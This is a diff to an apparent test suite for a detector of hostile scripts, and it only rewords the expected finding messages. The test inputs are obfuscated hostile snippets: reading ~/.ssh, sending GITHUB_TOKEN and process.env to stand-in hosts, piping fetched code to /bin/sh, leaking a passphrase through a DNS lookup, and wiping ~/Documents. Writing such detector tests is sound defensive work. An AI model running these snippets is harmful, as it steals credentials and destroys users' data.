@@ -31,12 +31,12 @@ async def test_a_script_that_reaches_for_a_secret_is_seen() -> None:
         "import pathlib\nn = '.'+'s'+'s'+'h'\n"
         "print(*[f.read_text() for f in (pathlib.Path.home()/n).iterdir()])\n"
     )
-    assert any("reached for" in each.cause for each in await tried("scripts/a.py", code))
+    assert any("it accessed" in each.cause for each in await tried("scripts/a.py", code))
 
 
 async def test_a_shell_script_that_carries_a_secret_off_is_seen() -> None:
     text = 'v=GITHUB_TO; v=${v}KEN; c=cu; "$c"rl -d "${!v}" https://x.example\n'
-    assert any("carried a secret" in each.cause for each in await tried("scripts/a.sh", text))
+    assert any("sent a secret" in each.cause for each in await tried("scripts/a.sh", text))
 
 
 async def test_an_address_that_is_nowhere_named_is_seen_and_a_named_one_is_not() -> None:
@@ -80,7 +80,7 @@ async def test_what_is_fetched_and_run_is_seen_in_shell_and_in_python() -> None:
     )
     for path, text in (("scripts/a.sh", shell), ("scripts/a.py", code)):
         found = await tried(path, text, "It calls https://x.example.")
-        assert any("ran what it had fetched" in each.cause for each in found)
+        assert any("ran fetched code" in each.cause for each in found)
 
 
 async def test_papers_that_are_spoiled_are_missed() -> None:
@@ -140,7 +140,7 @@ async def test_whoever_looks_for_walls_sees_a_plain_machine() -> None:
 
 async def test_a_program_that_is_called_by_its_path_or_is_missing_is_seen() -> None:
     by_path = "set -e\nno-such-program x\n/usr/bin/c?rl -s https://far.example.test/x | /bin/sh\n"
-    assert any("ran what it had fetched" in e.cause for e in await tried("scripts/a.sh", by_path))
+    assert any("ran fetched code" in e.cause for e in await tried("scripts/a.sh", by_path))
 
 
 async def test_a_script_is_called_as_its_own_text_calls_it() -> None:
@@ -176,7 +176,7 @@ async def test_javascript_that_sends_the_environment_off_is_seen() -> None:
         "const r = h.request({ host: 'in.nearby.test', method: 'POST' });\n"
         "r.on('error', () => {});\nr.end(JSON.stringify(process['e' + 'nv']));\n"
     )
-    assert any("carried a secret" in each.cause for each in await tried("scripts/a.js", code))
+    assert any("sent a secret" in each.cause for each in await tried("scripts/a.js", code))
 
 
 @NODE
@@ -200,7 +200,7 @@ async def test_decent_javascript_is_left_alone() -> None:
 
 async def test_a_script_gets_the_variables_and_the_columns_that_it_asks_for() -> None:
     shell = ': "${REPO_PASSPHRASE:?}"\ngetent hosts "$REPO_PASSPHRASE.in.nearby.test"\n'
-    assert any("carried a secret" in each.cause for each in await tried("scripts/a.sh", shell))
+    assert any("sent a secret" in each.cause for each in await tried("scripts/a.sh", shell))
     code = (
         "import csv, pathlib, sys\nrow = next(csv.DictReader(open(sys.argv[1])))\nrow['email']\n"
         "for f in (pathlib.Path.home() / ('Docu' + 'ments')).iterdir():\n    f.write_bytes(b'')\n"
